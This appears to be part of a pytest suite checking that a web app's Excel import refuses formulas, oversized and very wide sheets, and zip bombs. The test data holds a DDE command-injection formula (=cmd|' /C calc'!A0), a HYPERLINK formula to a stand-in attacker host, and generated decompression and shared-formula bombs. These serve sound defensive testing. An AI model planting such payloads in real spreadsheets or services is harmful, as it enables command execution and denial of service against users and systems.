        preview = _preview(client, "/evidence/import", buffer.getvalue())
        assert preview.status_code == 200
        table = preview.text.split('id="import-preview"')[1]
        assert table.count("不接受公式，请改为粘贴数值。") == 6
        assert table.count("table-danger") == 6
        for shown in ("<td>=1+1</td>", "<td>=SUM(1,1)</td>", "=cmd|&#39; /C calc&#39;!A0"):
            assert shown in table  # shown as written, never evaluated
        done = client.post(
            "/evidence/import/confirm",
            data={"token": _token(preview), "csrf_token": csrf(client)},
        )
        assert done.status_code == 303
        titles = set(
            session.exec(
                select(Evidence.title).where(col(Evidence.reference).startswith("T-"))
            ).all()
        )
        assert titles == {"@SUM(1,2)", "+1+1", "-1+1", "制表符开头"}
        assert (
            session.exec(
                select(func.count())
                .select_from(Evidence)
                .where(col(Evidence.reference).startswith("F-"))
            ).one()
            == 0
        )
        assert _files(upload_settings.data_dir) == set()  # the preview is gone too

        exported = load_workbook(io.BytesIO(client.get("/evidence/export.xlsx").content))
        cells = [c for row in exported.worksheets[0].iter_rows() for c in row]
        assert all(c.data_type != "f" for c in cells)
        values = {c.value for c in cells}
        assert {"'@SUM(1,2)", "'+1+1", "'-1+1"} <= values
        assert not values & {"@SUM(1,2)", "+1+1", "-1+1"}

    def test_self_assessment_formulas_are_refused_per_row(
        self, client: TestClient, session: Session, upload_settings: Settings
    ) -> None:
        sign_in(client, session, make_user(session, roles=[Role.admin]))
        book = Workbook()
        sheet = book.active
        assert sheet is not None
        sheet.append(["年度", "总分", "发展阶段"])
        sheet.append([2021, "=100", "单项覆盖"])
        sheet.append([2022, 60, '=HYPERLINK("http://evil.example")'])
        sheet.append([2023, 70, "集成提升"])
        sheet["B4"] = ArrayFormula("B4", "=50+20")
        sheet.append([2024, 75.5, "集成提升"])
        buffer = io.BytesIO()
        book.save(buffer)
        preview = _preview(client, "/self-assessments/import", buffer.getvalue())
        assert preview.status_code == 200
        assert preview.text.count("不接受公式，请改为粘贴数值。") == 3
        client.post(
            "/self-assessments/import/confirm",
            data={"token": _token(preview), "csrf_token": csrf(client)},
        )
        years = session.exec(select(SelfAssessment.year)).all()
        assert list(years) == [2024]


class TestInflatedSheets:
    @pytest.mark.parametrize(
        ("kind", "limit", "row"),
        [
            ("register", 2000, lambda n: [None, f"文件{n}", "文件"]),
            ("self-assessment", 200, lambda n: [1800 + n, 50, "起步建设"]),
        ],
    )
    def test_more_rows_than_allowed_is_refused_with_the_limit(
        self,
        client: TestClient,
        session: Session,
        upload_settings: Settings,
        kind: str,
        limit: int,
        row: Any,
    ) -> None:
        sign_in(client, session, make_user(session, roles=[Role.admin]))
        book = Workbook(write_only=True)
        sheet = book.create_sheet()
        sheet.append(["表头"])
        for n in range(limit + 1):
            sheet.append(row(n))
        buffer = io.BytesIO()
        book.save(buffer)
        response = _preview(client, IMPORTS[kind], buffer.getvalue())
        assert response.status_code == 422
        assert f"工作表超过 {limit} 行，请拆分为多个较小的文件。" in response.text
        assert _files(upload_settings.data_dir) == set()

    def test_an_enormous_declared_dimension_costs_nothing(
        self, client: TestClient, session: Session, upload_settings: Settings
    ) -> None:
        sign_in(client, session, make_user(session, roles=[Role.admin]))
        small = _with_sheet_xml(
            _sheet_xml(_text_row(2, "R-1", "文件控制程序"), dimension="A1:XFD1048576")
        )
        started = time.monotonic()
        response = _preview(client, "/evidence/import", small)
        assert response.status_code == 200
        assert "文件控制程序" in response.text
        far = _with_sheet_xml(_sheet_xml(_text_row(1048576, "R-2", "远处的行")))
        response = _preview(client, "/evidence/import", far)
        assert response.status_code == 422
        assert "工作表超过 2000 行" in response.text
        assert time.monotonic() - started < 5
        imports = upload_settings.data_dir / "imports"
        assert len(list(imports.glob("*.json"))) == 1  # the first preview, waiting to confirm

    @pytest.mark.parametrize("kind", list(IMPORTS))
    def test_formulas_dragged_across_a_row_are_refused_before_reading(
        self, client: TestClient, session: Session, upload_settings: Settings, kind: str
    ) -> None:
        # One shared formula filled across 16,000 cells: a 40 KB file that openpyxl would
        # spend minutes rewriting cell by cell.
        cells = '<c r="A2"><f t="shared" ref="A2:XFD2" si="0">B1+1</f><v>1</v></c>' + "".join(
            f'<c r="{get_column_letter(n)}2"><f t="shared" si="0"/><v>1</v></c>'
            for n in range(2, 16001)
        )
        bomb = _with_sheet_xml(_sheet_xml(f'<row r="2">{cells}</row>'))
        sign_in(client, session, make_user(session, roles=[Role.admin]))
        started = time.monotonic()
        response = _preview(client, IMPORTS[kind], bomb)
        assert response.status_code == 422
        assert "公式" in response.text
        assert "粘贴为数值" in response.text
        assert time.monotonic() - started < 3
        assert _files(upload_settings.data_dir) == set()

    def test_a_helper_sheet_after_the_register_may_hold_dragged_formulas(
        self, client: TestClient, session: Session
    ) -> None:
        book = Workbook()
        register = book.active
        assert register is not None
        register.append(["编号", "标题", "类型"])
        register.append(["H-1", "辅助表之前的文件", "文件"])
        book.create_sheet("辅助")
        buffer = io.BytesIO()
        book.save(buffer)
        dragged = (
            f'<?xml version="1.0" encoding="UTF-8"?><worksheet {XLSX_NS}><sheetData><row r="1">'
            '<c r="A1"><f t="shared" ref="A1:C1" si="0">1+1</f><v>2</v></c>'
            '<c r="B1"><f t="shared" si="0"/><v>2</v></c></row></sheetData></worksheet>'
        ).encode()
        out = io.BytesIO()
        with (
            zipfile.ZipFile(io.BytesIO(buffer.getvalue())) as source,
            zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
        ):
            for item in source.infolist():
                helper = item.filename == "xl/worksheets/sheet2.xml"
                target.writestr(item.filename, dragged if helper else source.read(item))
        sign_in(client, session, make_user(session, roles=[Role.admin]))
        response = _preview(client, "/evidence/import", out.getvalue())
        assert response.status_code == 200
        assert "辅助表之前的文件" in response.text

    def test_very_wide_rows_are_read_to_the_known_columns_only(
        self, client: TestClient, session: Session
    ) -> None:
        sign_in(client, session, make_user(session, roles=[Role.admin]))
        # Three known values, then cells out to the last column Excel has (XFD).
        wide = "".join(
            _text_row(n, f"W-{n}", f"宽行{n}", "文件")[: -len("</row>")]
            + _text_row(n, *["x"] * (16384 - 10), first_column=11)[len(f'<row r="{n}">') :]
            for n in (2, 3)
        )
        started = time.monotonic()
        response = _preview(client, "/evidence/import", _with_sheet_xml(_sheet_xml(wide)))
        assert response.status_code == 200
        assert "宽行2" in response.text
        assert "宽行3" in response.text
        assert "table-danger" not in response.text.split('id="import-preview"')[1]
        assert time.monotonic() - started < 5

    @pytest.mark.parametrize("kind", list(IMPORTS))
    def test_a_zip_bomb_is_refused_quickly_in_bounded_memory(
        self, client: TestClient, session: Session, upload_settings: Settings, kind: str
    ) -> None:
        user = make_user(session, roles=[Role.admin], locale="en")  # a new message (no zh yet)
        sign_in(client, session, user)
        bomb = _zip_bomb()
        assert len(bomb) < 1024 * 1024  # it passes the upload limit easily
        response, elapsed, peak = _measured(lambda: _preview(client, IMPORTS[kind], bomb))
        assert response.status_code == 422
        assert "The file unpacks to more than 20 MB" in response.text
        assert elapsed < CUT_OFF_SECONDS
        assert peak < 30 * 1024 * 1024, peak
        assert _files(upload_settings.data_dir) == set()

    def test_a_bomb_that_understates_its_size_is_cut_off_at_the_declared_size(
        self, client: TestClient, session: Session, upload_settings: Settings
    ) -> None:
        sign_in(client, session, make_user(session, roles=[Role.admin]))
        liar = _understate_size(_zip_bomb(), "xl/worksheets/sheet1.xml", 4096)
        with zipfile.ZipFile(io.BytesIO(liar)) as archive:
            assert sum(i.file_size for i in archive.infolist()) < 1024 * 1024
        response, elapsed, peak = _measured(lambda: _preview(client, "/evidence/import", liar))
        assert response.status_code == 422
        assert "该文件不是可读取的 Excel（.xlsx）文件。" in response.text
        assert elapsed < CUT_OFF_SECONDS
        assert peak < 30 * 1024 * 1024, peak
        assert _files(upload_settings.data_dir) == set()
